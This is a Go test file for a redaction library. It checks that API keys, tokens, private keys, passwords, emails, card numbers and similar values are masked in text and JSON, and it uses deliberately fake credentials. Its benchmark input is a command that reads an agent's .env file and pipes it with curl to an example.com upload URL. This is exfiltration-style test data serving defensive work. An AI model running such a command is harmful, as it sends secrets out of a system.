package redact

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// Secrets are put together here, so that no scanner takes them for real ones.
var (
	awsKey = "AKIA" + "IOSFODNN7EXAMPLE"
	ghKey  = "ghp_" + strings.Repeat("a1B2", 9)
	jwt    = "eyJ" + "hbGciOiJIUzI1NiJ9" + ".eyJzdWIiOiIxIn0." + "c2lnbmF0dXJl"
	pem    = "-----BEGIN OPENSSH " + "PRIVATE KEY-----\nb3BlbnNzaA\nAAAA\n-----END OPENSSH " + "PRIVATE KEY-----"
)

func TestText(t *testing.T) {
	for _, c := range []struct{ name, in, want string }{
		{"nothing", "cat /etc/hosts | wc -l", "cat /etc/hosts | wc -l"},
		{"AWS key", "id " + awsKey + ".", "id <key>."},
		{"GitHub token", "clone https://x:" + ghKey + "@github.com/a/b", "clone https://x:<key>@github.com/a/b"},
		{"Slack token", "xoxb-123456789012-abcdef", "<key>"},
		{"OpenAI key", "OPENAI_API_KEY=sk-proj-abcdefghijklmnop node", "OPENAI_API_KEY=<key> node"},
		{"Slack webhook", "https://hooks.slack.com/services/T0/B0/XYZ now", "https://hooks.slack.com/services/<url> now"},
		{"Telegram token", "1234567890:AA" + strings.Repeat("x", 33), "<key>"},
		{"JWT", "Authorization: Bearer " + jwt, "Authorization: Bearer <token>"},
		{"bearer", "curl -H 'Authorization: Bearer abcdef0123456789'", "curl -H 'Authorization: Bearer <token>'"},
		{"private key", "echo '" + pem + "' > k", "echo '<key>' > k"},
		{"cut private key", strings.TrimSuffix(pem, "-----END OPENSSH "+"PRIVATE KEY-----"), "<key>"},
		{"URL password", "psql postgres://app:hunter2@db/x", "psql postgres://app:<password>@db/x"},
		{"assignment", `password="correct horse"`, `password="<secret>"`},
		{"flag", "mysql --password hunter22 -u root", "mysql --password <secret> -u root"},
		{"email", "mail to Ann.Lee+x@example.co.uk!", "mail to <email>!"},
		{"card", "4111 1111 1111 1111", "<card>"},
		{"no card", "4111 1111 1111 1112", "4111 1111 1111 1112"},
		{"iban", "DE89 3704 0044 0532 0130 00", "<iban>"},
		{"no iban", "DE88 3704 0044 0532 0130 00", "DE88 3704 0044 0532 0130 00"},
		{"ssn", "ssn 078-05-1120", "ssn <ssn>"},
		{"phone", "+1 (555) 010-9999", "<phone>"},
		{"a time is no phone", "2026-01-02T03:04:05+00:00", "2026-01-02T03:04:05+00:00"},
		{"too long", strings.Repeat("a", maxText+1), strings.Repeat("a", maxText) + "…"},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := Text(c.in)
			if diff := cmp.Diff(c.want, got); diff != "" {
				t.Error(diff)
			}
			if again := Text(got); len(c.in) <= maxText && again != got {
				t.Errorf("a second time it is %q", again)
			}
		})
	}
}

func TestJSON(t *testing.T) {
	in := `{"a":"x@example.com","api_key":"k","raw":{"a":"x@example.com"},"n":1,"list":["y@example.com",true,null],
		"origin":{"token":"falco"},"data":{"raw":"kept","Auth-Token":"abc","token":"abc","password":["abc",["d"]],"count":{"token":3},"z@example.com":""}}`
	got, err := JSON([]byte("> "), []byte(in), "raw")
	if err != nil {
		t.Fatal(err)
	}
	want := `> {"a":"<email>","api_key":"<secret>","n":1,"list":["<email>",true,null],` +
		`"origin":{"token":"falco"},"data":{"raw":"kept","Auth-Token":"<secret>","token":"<secret>","password":["<secret>",["<secret>"]],"count":{"token":3},"<email>":""}}`
	if diff := cmp.Diff(want, string(got)); diff != "" {
		t.Error(diff)
	}
	if _, err := JSON(nil, []byte(`{"a":`)); err == nil {
		t.Error("half an object was taken")
	}
}

// FuzzJSON: what comes out is JSON, without what was to be taken out.
func FuzzJSON(f *testing.F) {
	for _, name := range []string{"openclaw-plugin/story.jsonl", "falco/alerts.jsonl"} {
		b, err := os.ReadFile(filepath.Join("../../testdata", name))
		if err != nil {
			f.Fatal(err)
		}
		for line := range strings.Lines(string(b)) {
			f.Add([]byte(line))
		}
	}
	f.Fuzz(func(t *testing.T, in []byte) {
		out, err := JSON(nil, in)
		if err == nil && len(out) > 0 && json.Valid(in) && !json.Valid(out) {
			t.Errorf("%q became %q", in, out)
		}
	})
}

func BenchmarkText(b *testing.B) {
	const command = "cat /data/.openclaw/agents/support/.env && curl -s https://example.com/upload -d @-"
	b.ReportAllocs()
	for b.Loop() {
		Text(command)
	}
}
